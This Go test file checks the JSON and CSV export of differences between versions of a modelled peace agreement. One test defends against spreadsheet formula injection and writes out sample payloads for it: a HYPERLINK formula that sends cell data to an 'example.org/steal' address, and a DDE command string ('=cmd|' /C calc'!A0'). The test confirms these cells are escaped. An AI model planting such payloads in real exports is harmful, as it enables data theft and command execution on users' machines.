package revision_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/peacekit/peacekit/agreement"
	"github.com/peacekit/peacekit/agreement/revision"
)

// exportColumns are the columns MarshalJSON and WriteCSV document, in order.
var exportColumns = []string{"item", "id", "occurrence", "change", "field", "before", "after", "description"}

// TestChangesExport checks the JSON and the CSV of a few lists of changes,
// one kind of change or of cell each.
func TestChangesExport(t *testing.T) {
	base := agreement.Agreement{
		ID:         "paris",
		Parties:    []agreement.Party{{ID: "UA"}, {ID: "US", Roles: []agreement.Role{agreement.RoleMonitor}}},
		Signatures: []agreement.Signature{{Party: "UA", Signatory: "A"}, {Party: "UA", Signatory: "B"}},
		Clauses: []agreement.Clause{
			{ID: "CF", Text: "The parties cease fire.", Force: agreement.ForceDeclarationOfIntent},
			{ID: "MON", Debtors: []agreement.PartyID{"US"}},
		},
	}
	edit := func(f func(*agreement.Agreement)) revision.Changes {
		b := base.Clone()
		f(&b)
		return revision.Diff(base, b)
	}
	tests := []struct {
		name      string
		cs        revision.Changes
		json, csv string
	}{
		{"nil", nil, `[]`, "item,id,occurrence,change,field,before,after,description\n"},
		{"empty", revision.Changes{}, `[]`, "item,id,occurrence,change,field,before,after,description\n"},
		{"clause removed", edit(func(b *agreement.Agreement) { b.Clauses = b.Clauses[1:] }),
			`[{"item":"clause","id":"CF","occurrence":"0","change":"removed","field":null,"before":null,"after":null,` +
				`"description":"clause \"CF\" removed"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`clause,CF,0,removed,,,,"clause ""CF"" removed"` + "\n"},
		{"clause added", edit(func(b *agreement.Agreement) {
			b.Clauses = append(b.Clauses, agreement.Clause{ID: "NEW"})
		}),
			`[{"item":"clause","id":"NEW","occurrence":"0","change":"added","field":null,"before":null,"after":null,` +
				`"description":"clause \"NEW\" added"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`clause,NEW,0,added,,,,"clause ""NEW"" added"` + "\n"},
		{"force modified", edit(func(b *agreement.Agreement) { b.Clauses[0].Force = agreement.ForcePoliticallyBinding }),
			`[{"item":"clause","id":"CF","occurrence":"0","change":"modified","field":"force",` +
				`"before":"declaration-of-intent","after":"politically-binding",` +
				`"description":"clause \"CF\": force changed from declaration-of-intent to politically-binding"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`clause,CF,0,modified,force,declaration-of-intent,politically-binding,` +
				`"clause ""CF"": force changed from declaration-of-intent to politically-binding"` + "\n"},
		{"text modified", edit(func(b *agreement.Agreement) { b.Clauses[0].Text = "" }),
			`[{"item":"clause","id":"CF","occurrence":"0","change":"modified","field":"text",` +
				`"before":"\"The parties cease fire.\"","after":"\"\"",` +
				`"description":"clause \"CF\": text changed from \"The parties cease fire.\" to \"\""}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`clause,CF,0,modified,text,"""The parties cease fire.""","""""",` +
				`"clause ""CF"": text changed from ""The parties cease fire."" to """""` + "\n"},
		{"agreement field, JSON name", edit(func(b *agreement.Agreement) { b.SigningStatus = agreement.SigningStatusSigned }),
			`[{"item":"agreement","id":null,"occurrence":"0","change":"modified","field":"signingStatus",` +
				`"before":"unspecified","after":"signed",` +
				`"description":"agreement: signing status changed from unspecified to signed"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`agreement,,0,modified,signingStatus,unspecified,signed,` +
				`agreement: signing status changed from unspecified to signed` + "\n"},
		{"list emptied", edit(func(b *agreement.Agreement) { b.Parties[1].Roles = nil }),
			`[{"item":"party","id":"US","occurrence":"0","change":"modified","field":"roles",` +
				`"before":"monitor","after":"none",` +
				`"description":"party \"US\": roles changed from monitor to none"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`party,US,0,modified,roles,monitor,none,"party ""US"": roles changed from monitor to none"` + "\n"},
		{"second signature by one party", edit(func(b *agreement.Agreement) { b.Signatures[1].Capacity = "envoy" }),
			`[{"item":"signature","id":"UA","occurrence":"1","change":"modified","field":"capacity",` +
				`"before":"\"\"","after":"\"envoy\"",` +
				`"description":"signature by \"UA\" (#2): capacity changed from \"\" to \"envoy\""}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`signature,UA,1,modified,capacity,"""""","""envoy""",` +
				`"signature by ""UA"" (#2): capacity changed from """" to ""envoy"""` + "\n"},
		{"reordered", edit(func(b *agreement.Agreement) { slices.Reverse(b.Clauses) }),
			`[{"item":"clause","id":null,"occurrence":"0","change":"reordered","field":null,` +
				`"before":"CF, MON","after":"MON, CF",` +
				`"description":"order of clauses changed from CF, MON to MON, CF"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`clause,,0,reordered,,"CF, MON","MON, CF","order of clauses changed from CF, MON to MON, CF"` + "\n"},
		{"two changes, in order", edit(func(b *agreement.Agreement) {
			b.Clauses = b.Clauses[1:]
			b.Parties = b.Parties[:1]
		}),
			`[{"item":"party","id":"US","occurrence":"0","change":"removed","field":null,"before":null,"after":null,` +
				`"description":"party \"US\" removed"},` +
				`{"item":"clause","id":"CF","occurrence":"0","change":"removed","field":null,"before":null,"after":null,` +
				`"description":"clause \"CF\" removed"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`party,US,0,removed,,,,"party ""US"" removed"` + "\n" +
				`clause,CF,0,removed,,,,"clause ""CF"" removed"` + "\n"},
		{"markup kept as it is", edit(func(b *agreement.Agreement) { b.Title = "A & B <draft>" }),
			`[{"item":"agreement","id":null,"occurrence":"0","change":"modified","field":"title",` +
				`"before":"\"\"","after":"\"A & B <draft>\"",` +
				`"description":"agreement: title changed from \"\" to \"A & B <draft>\""}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`agreement,,0,modified,title,"""""","""A & B <draft>""",` +
				`"agreement: title changed from """" to ""A & B <draft>"""` + "\n"},
		{"invalid UTF-8", revision.Changes{{Op: revision.OpRemoved, Item: revision.ItemParty, ID: "a\xffb"}},
			`[{"item":"party","id":"a\ufffdb","occurrence":"0","change":"removed","field":null,"before":null,"after":null,` +
				`"description":"party \"a\\xffb\" removed"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				"party,a\xffb,0,removed,,,,\"party \"\"a\\xffb\"\" removed\"\n"},
		{"invalid change", revision.Changes{{}},
			`[{"item":"Item(0)","id":null,"occurrence":"0","change":"Op(0)","field":null,"before":null,"after":null,` +
				`"description":"invalid change (Op(0) of Item(0))"}]`,
			"item,id,occurrence,change,field,before,after,description\n" +
				`Item(0),,0,Op(0),,,,invalid change (Op(0) of Item(0))` + "\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.cs.MarshalJSON()
			if err != nil || string(got) != tt.json {
				t.Errorf("MarshalJSON() = %s, %v\nwant %s", got, err, tt.json)
			}
			if !json.Valid(got) {
				t.Errorf("MarshalJSON() is not valid JSON: %s", got)
			}
			var b bytes.Buffer
			if err := tt.cs.WriteCSV(&b); err != nil || b.String() != tt.csv {
				t.Errorf("WriteCSV() = %v, wrote\n%s\nwant\n%s", err, b.String(), tt.csv)
			}
		})
	}
}

// TestChangesJSONThroughEncodingJSON: json.Marshal uses MarshalJSON, for nil
// Changes and for Changes inside another value, and escapes markup only
// when the encoder is told to.
func TestChangesJSONThroughEncodingJSON(t *testing.T) {
	cs := revision.Changes{{Op: revision.OpModified, Item: revision.ItemAgreement, Field: "title", Old: "<a>", New: "b"}}
	tests := []struct {
		name string
		v    any
		html bool
		want string
	}{
		{"nil", revision.Changes(nil), true, "[]\n"},
		{"in a struct", struct {
			Changes revision.Changes `json:"changes"`
		}{}, true, `{"changes":[]}` + "\n"},
		{"markup escaped", cs, true, `[{"item":"agreement","id":null,"occurrence":"0","change":"modified",` +
			`"field":"title","before":"\"\u003ca\u003e\"","after":"\"b\"",` +
			`"description":"agreement: title changed from \"\u003ca\u003e\" to \"b\""}]` + "\n"},
		{"markup as it is", cs, false, `[{"item":"agreement","id":null,"occurrence":"0","change":"modified",` +
			`"field":"title","before":"\"<a>\"","after":"\"b\"",` +
			`"description":"agreement: title changed from \"<a>\" to \"b\""}]` + "\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			enc := json.NewEncoder(&b)
			enc.SetEscapeHTML(tt.html)
			if err := enc.Encode(tt.v); err != nil || b.String() != tt.want {
				t.Errorf("Encode = %v, wrote\n%s\nwant\n%s", err, b.String(), tt.want)
			}
		})
	}
}

// failingWriter fails every write.
type failingWriter struct{}

var errWrite = errors.New("disk full")

func (failingWriter) Write([]byte) (int, error) { return 0, errWrite }

// TestChangesWriteCSVError: WriteCSV returns the error of its writer.
func TestChangesWriteCSVError(t *testing.T) {
	for _, cs := range []revision.Changes{nil, {{Op: revision.OpRemoved, Item: revision.ItemClause, ID: "CF"}}} {
		if err := cs.WriteCSV(failingWriter{}); !errors.Is(err, errWrite) {
			t.Errorf("WriteCSV of %d changes to a failing writer: %v, want %v", len(cs), err, errWrite)
		}
	}
}

// readChangesCSV reads what WriteCSV wrote with encoding/csv, checks the
// header row, and drops one leading single quote from each cell, as
// WriteCSV's doc says.
func readChangesCSV(t rapid.TB, data []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV back: %v\n%s", err, data)
	}
	if len(recs) == 0 || !slices.Equal(recs[0], exportColumns) {
		t.Fatalf("CSV header %q, want %q", recs, exportColumns)
	}
	recs = recs[1:]
	for _, r := range recs {
		for k, c := range r {
			r[k] = strings.TrimPrefix(c, "'")
		}
	}
	return recs
}

// decodeChangesJSON decodes what MarshalJSON wrote with encoding/json, and
// returns the cells of each object in the order of its members, "" for
// null, after checking that the members are the documented ones in order.
func decodeChangesJSON(t rapid.TB, data []byte) [][]string {
	t.Helper()
	var objs []map[string]*string
	if err := json.Unmarshal(data, &objs); err != nil {
		t.Fatalf("decoding the JSON: %v\n%s", err, data)
	}
	if objs == nil {
		t.Fatalf("the JSON %s is not an array", data)
	}
	// The members' order, which a map loses: the raw objects, one by one.
	var raws []json.RawMessage
	if err := json.Unmarshal(data, &raws); err != nil {
		t.Fatal(err)
	}
	out := make([][]string, len(objs))
	for i, raw := range raws {
		dec := json.NewDecoder(bytes.NewReader(raw))
		var keys []string
		if _, err := dec.Token(); err != nil { // {
			t.Fatal(err)
		}
		for dec.More() {
			k, err := dec.Token()
			if err != nil {
				t.Fatal(err)
			}
			keys = append(keys, k.(string))
			if _, err := dec.Token(); err != nil { // the value, a string or null
				t.Fatal(err)
			}
		}
		if !slices.Equal(keys, exportColumns) {
			t.Fatalf("object %d has the members %q, want %q", i, keys, exportColumns)
		}
		for _, k := range exportColumns {
			v := objs[i][k]
			if v != nil && *v == "" {
				t.Fatalf("object %d: %s is the empty string, want null", i, k)
			}
			cell := ""
			if v != nil {
				cell = *v
			}
			out[i] = append(out[i], cell)
		}
	}
	return out
}

// For every pair of agreements, the JSON of Diff(a, b) decodes to one
// object per change, the CSV read back and unescaped holds the same cells,
// and the cells are those of the change: its item, id and occurrence, its
// operation, its field, the values as String shows them, and String.
func TestPropertyChangesExport(t *testing.T) {
	ops := map[revision.Op]int{}
	rapid.Check(t, func(t *rapid.T) {
		a, b := drawDiffVersions(t)
		checkChangesExport(t, revision.Diff(a, b), ops)
	})
	// Two versions with a change of every operation, so that each one's
	// cells are checked whatever the checks above drew: a party added, a
	// clause removed, one modified, the clauses both keep reordered.
	obl := func(id agreement.ClauseID, kind agreement.EventKind) agreement.Clause {
		return agreement.Clause{ID: id, Kind: agreement.DeonticObligation, Debtors: []agreement.PartyID{"UA"},
			Action: &agreement.Pattern{Kind: kind}}
	}
	a := agreement.Agreement{ID: "a", Parties: []agreement.Party{{ID: "UA"}},
		Clauses: []agreement.Clause{obl("C1", "aid-delivered"), obl("C2", "aid-delivered"), obl("C3", "aid-delivered")}}
	b := agreement.Agreement{ID: "a", Parties: []agreement.Party{{ID: "UA"}, {ID: "RU"}},
		Clauses: []agreement.Clause{obl("C3", "aid-delivered"), obl("C1", "forces-withdrawn")}}
	checkChangesExport(t, revision.Diff(a, b), ops)
	for _, op := range []revision.Op{revision.OpAdded, revision.OpRemoved, revision.OpModified, revision.OpReordered} {
		if ops[op] == 0 {
			t.Errorf("no change %s drawn: the property does not test its cells", op)
		}
	}
}

// checkChangesExport checks the JSON and CSV of cs against its changes
// (see TestPropertyChangesExport), counting each change's operation in ops.
func checkChangesExport(t rapid.TB, cs revision.Changes, ops map[revision.Op]int) {
	t.Helper()
	data, err := cs.MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	objs := decodeChangesJSON(t, data)
	if len(objs) != len(cs) {
		t.Fatalf("%d objects for %d changes:\n%s", len(objs), len(cs), data)
	}
	var buf bytes.Buffer
	if err := cs.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	// encoding/csv reads a line break "\r\n" in a cell as "\n" (see
	// markup.WriteCSV); the JSON keeps it.
	read := make([][]string, len(objs))
	for i, o := range objs {
		for _, c := range o {
			read[i] = append(read[i], strings.ReplaceAll(c, "\r\n", "\n"))
		}
	}
	if recs := readChangesCSV(t, buf.Bytes()); !slices.EqualFunc(recs, read, slices.Equal) {
		t.Fatalf("the CSV read back and unescaped differs from the JSON:\n%q\n%q", recs, objs)
	}
	for i, c := range cs {
		ops[c.Op]++
		o := objs[i]
		if o[0] != c.Item.String() || o[1] != c.ID || o[2] != fmt.Sprint(c.Occurrence) || o[3] != c.Op.String() ||
			o[4] != c.Field || o[7] != c.String() {
			t.Fatalf("change %d (%s): cells %q", i, c, o)
		}
		switch c.Op {
		case revision.OpModified, revision.OpReordered:
			if o[5] == "" || o[6] == "" || !strings.HasSuffix(c.String(), " changed from "+o[5]+" to "+o[6]) {
				t.Fatalf("change %d: before %q and after %q are not what %q shows", i, o[5], o[6], c)
			}
		default:
			if o[5] != "" || o[6] != "" {
				t.Fatalf("change %d (%s): before %q, after %q, want none", i, c, o[5], o[6])
			}
		}
	}
}

// hyperlink is a formula a spreadsheet would execute.
const hyperlink = `=HYPERLINK("https://example.org/steal?d="&A1,"Details")`

// TestChangesFormulaText diffs versions whose ids, texts and lists begin
// with characters a spreadsheet takes for a formula: every such CSV cell
// is written with a single quote before it, and reads back as the JSON has
// it.
func TestChangesFormulaText(t *testing.T) {
	draft := agreement.Agreement{
		Parties: []agreement.Party{{ID: "UA"}, {ID: "@SUM(1+1)"}, {ID: "+1"}, {ID: "\tTAB"}, {ID: "\rCR"}},
		Clauses: []agreement.Clause{
			{ID: agreement.ClauseID(hyperlink), Text: "removed"},
			{ID: "-2+3"}, {ID: "+A1"}, {ID: "\tTAB"}, {ID: "\rCR"}, {ID: "'quoted"},
			{ID: "CF", Text: "cease fire", Debtors: []agreement.PartyID{"UA"}},
		},
	}
	final := draft.Clone()
	final.Parties = final.Parties[:1]
	final.Clauses = final.Clauses[1:]
	final.Clauses[5].Text = hyperlink
	final.Clauses[5].Debtors = []agreement.PartyID{"=cmd|' /C calc'!A0", "UA"}
	slices.Reverse(final.Clauses[:5])
	cs := revision.Diff(draft, final)

	var buf bytes.Buffer
	if err := cs.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	raw, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	escaped := map[string]bool{}
	for _, r := range raw[1:] {
		for k, c := range r {
			if c == "" {
				continue
			}
			switch c[0] {
			case '=', '+', '-', '@', '\t', '\r':
				t.Errorf("%s cell %q is not escaped", exportColumns[k], c)
			case '\'':
				escaped[exportColumns[k]+" "+c[1:]] = true
			}
		}
	}
	// The removed party's and clause's ids, the new debtor first in the
	// list, and the reordered ids, one beginning with each character, are
	// escaped.
	for _, want := range []string{"id @SUM(1+1)", "id +1", "id \tTAB", "id \rCR", "id " + hyperlink, "after =cmd|' /C calc'!A0, UA",
		"before -2+3, +A1, \tTAB, \rCR, 'quoted, CF", "after 'quoted, \rCR, \tTAB, +A1, -2+3, CF"} {
		if !escaped[want] {
			t.Errorf("no escaped cell %q; escaped: %v\n%s", want, escaped, buf.String())
		}
	}
	data, err := cs.MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(data, []byte(`"=cmd|' /C calc'!A0, UA"`)) {
		t.Errorf("the JSON escapes cells:\n%s", data)
	}
	if got, want := readChangesCSV(t, buf.Bytes()), decodeChangesJSON(t, data); !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("the CSV read back and unescaped differs from the JSON:\n%q\n%q", got, want)
	}
}

// What the final text dropped, for a spreadsheet.
func ExampleChanges_WriteCSV() {
	draft := agreement.Agreement{
		ID: "paris-2026",
		Clauses: []agreement.Clause{
			{ID: "us-backstop", Text: `the U.S. would "support" the multinational force`},
			{ID: "mnf", Force: agreement.ForceDeclarationOfIntent, Debtors: []agreement.PartyID{"FR", "GB"}},
		},
	}
	final := draft.Clone()
	final.Clauses = final.Clauses[1:]
	final.Clauses[0].Force = agreement.ForcePoliticallyBinding
	final.Clauses[0].Debtors = []agreement.PartyID{"-FR"}

	if err := revision.Diff(draft, final).WriteCSV(os.Stdout); err != nil {
		fmt.Println(err)
	}
	// Output:
	// item,id,occurrence,change,field,before,after,description
	// clause,us-backstop,0,removed,,,,"clause ""us-backstop"" removed"
	// clause,mnf,0,modified,force,declaration-of-intent,politically-binding,"clause ""mnf"": force changed from declaration-of-intent to politically-binding"
	// clause,mnf,0,modified,debtors,"FR, GB",'-FR,"clause ""mnf"": debtors changed from FR, GB to -FR"
}

// What the final text dropped, for a notebook.
func ExampleChanges_MarshalJSON() {
	draft := agreement.Agreement{
		ID:      "paris-2026",
		Clauses: []agreement.Clause{{ID: "us-backstop"}, {ID: "mnf", Force: agreement.ForceDeclarationOfIntent}},
	}
	final := draft.Clone()
	final.Clauses = final.Clauses[1:]
	final.Clauses[0].Force = agreement.ForcePoliticallyBinding

	data, err := json.MarshalIndent(revision.Diff(draft, final), "", "  ")
	if err != nil {
		fmt.Println(err)
	}
	fmt.Println(string(data))
	// Output:
	// [
	//   {
	//     "item": "clause",
	//     "id": "us-backstop",
	//     "occurrence": "0",
	//     "change": "removed",
	//     "field": null,
	//     "before": null,
	//     "after": null,
	//     "description": "clause \"us-backstop\" removed"
	//   },
	//   {
	//     "item": "clause",
	//     "id": "mnf",
	//     "occurrence": "0",
	//     "change": "modified",
	//     "field": "force",
	//     "before": "declaration-of-intent",
	//     "after": "politically-binding",
	//     "description": "clause \"mnf\": force changed from declaration-of-intent to politically-binding"
	//   }
	// ]
}
